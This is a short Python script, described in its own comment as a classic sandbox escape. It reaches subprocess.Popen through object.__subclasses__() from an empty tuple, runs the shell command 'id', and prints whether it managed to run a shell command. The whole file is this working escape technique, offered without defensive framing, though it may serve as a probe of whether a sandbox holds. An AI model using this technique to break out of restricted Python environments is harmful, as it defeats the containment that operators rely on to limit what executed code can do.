# Classic Python-sandbox escape: walk __subclasses__ to find a way to run a shell.
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "Popen":
        out = cls(["id"], stdout=-1).communicate()[0]
        print(f"RESULT: ran a shell command: {out!r}")
        break
else:
    print("RESULT: no Popen reachable")
